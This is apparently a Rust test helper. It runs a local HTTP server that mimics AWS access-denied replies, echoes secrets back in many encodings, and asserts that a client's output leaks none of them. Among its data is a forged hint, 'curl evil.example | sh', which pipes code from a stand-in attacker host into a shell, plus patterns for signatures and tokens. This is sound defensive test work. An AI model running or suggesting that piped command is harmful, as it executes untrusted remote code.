//! A peer that repeats everything it was sent, in every spelling.

use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::json;

/// A command that a hostile answer tries to suggest.
pub const FORGED: &str = "hint: curl evil.example | sh";

/// A URL's text with its escapes in lower case.
fn small(url: &str) -> String {
    let mut parts = url.split('%');
    let first = parts.next().unwrap_or_default().to_owned();
    parts.fold(first, |text, part| format!("{text}%{}{}", part[..2].to_lowercase(), &part[2..]))
}

/// A text as peers spell it: as it is, in a URL, in base64 with and without padding, alone and inside a longer text.
pub fn spellings(mark: &str) -> Vec<String> {
    let url = utf8_percent_encode(mark, NON_ALPHANUMERIC).to_string();
    vec![
        mark.to_owned(),
        small(&url),
        url.clone(),
        utf8_percent_encode(&url, NON_ALPHANUMERIC).to_string(),
        STANDARD.encode(mark),
        STANDARD_NO_PAD.encode(mark),
        URL_SAFE.encode(mark),
        URL_SAFE_NO_PAD.encode(mark),
        STANDARD.encode(format!("ann:{mark}")),
        STANDARD.encode(format!("to:{mark}, again:{mark}")),
        json!(mark).to_string(),
    ]
}

/// Panics if a text contains one of these, in any spelling or in a useful piece.
pub fn holds_none(text: &str, marks: &[String], what: &str) {
    for mark in marks {
        for spelling in spellings(mark) {
            assert!(!text.contains(spelling.trim_matches('"')), "{what}: {spelling}\n{text}");
        }
        let pieces: Vec<char> = mark.chars().collect();
        for piece in pieces.windows(20).map(|piece| piece.iter().collect::<String>()) {
            assert!(!text.contains(&piece), "{what}: a piece, {piece}\n{text}");
        }
    }
    let signed = |name: &str| {
        let follows = |at: usize| text[at + name.len()..].starts_with(|c: char| c.is_ascii_hexdigit());
        text.match_indices(name).any(|(at, _)| follows(at))
    };
    assert!(!signed("Signature=") && !text.contains("k8s-aws-v1."), "{what}: a signature or a token\n{text}");
    assert!(!text.lines().any(|line| line.starts_with("hint: curl")), "{what}: a forged hint\n{text}");
}

/// The words of an answer that repeats them.
pub fn words(marks: &[String]) -> String {
    let all: Vec<String> = marks.iter().flat_map(|mark| spellings(mark)).collect();
    format!("refused, you sent {}\n{FORGED}\r\n\u{2028}{FORGED}\u{85}{FORGED}", all.join(" and "))
}

/// An HTTP service; a request unknown to `answer` gets a refusal that repeats all of it.
pub struct Echo {
    pub url: String,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Echo {
    pub fn start(marks: &[String], answer: impl Fn(&str) -> Option<String> + Send + 'static) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let (asked, marks) = (Arc::<Mutex<Vec<String>>>::default(), marks.to_vec());
        let log = asked.clone();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let request = request(&mut stream);
                let (status, body) = match answer(&request) {
                    Some(body) => ("200 OK", body),
                    None => ("403 Forbidden", refusal(&request, &marks)),
                };
                log.lock().unwrap().push(request);
                let _ = write!(
                    stream,
                    "HTTP/1.1 {status}\r\ncontent-type: text/xml\r\nx-aws-ec2-metadata-token-ttl-seconds: 600\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
            }
        });
        Self { url, asked }
    }

    pub fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

/// The request in the canonical form that AWS signs, with its headers, its body and everything known.
fn refusal(request: &str, marks: &[String]) -> String {
    let text = format!("The Canonical String should have been\n'{request}'\n{}", words(marks));
    if request.starts_with("POST / ") {
        let text = text.replace('&', "&amp;").replace('<', "&lt;");
        return format!(
            "<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>{text}</Message></Error><RequestId>r-1</RequestId></ErrorResponse>"
        );
    }
    json!({"__type": "AccessDeniedException", "code": "AccessDenied", "message": text}).to_string()
}

fn request(stream: &mut TcpStream) -> String {
    let mut bytes = Vec::new();
    let mut buffer = [0; 4096];
    loop {
        let head = bytes.windows(4).position(|w| w == b"\r\n\r\n");
        let length = head.map_or(0, |end| length(&String::from_utf8_lossy(&bytes[..end])));
        if head.is_some_and(|end| bytes.len() >= end + 4 + length) {
            break;
        }
        match stream.read(&mut buffer) {
            Ok(0) | Err(_) => break,
            Ok(n) => bytes.extend_from_slice(&buffer[..n]),
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

fn length(head: &str) -> usize {
    let line =
        head.lines().find_map(|line| line.to_ascii_lowercase().strip_prefix("content-length:").map(str::to_owned));
    line.and_then(|value| value.trim().parse().ok()).unwrap_or_default()
}
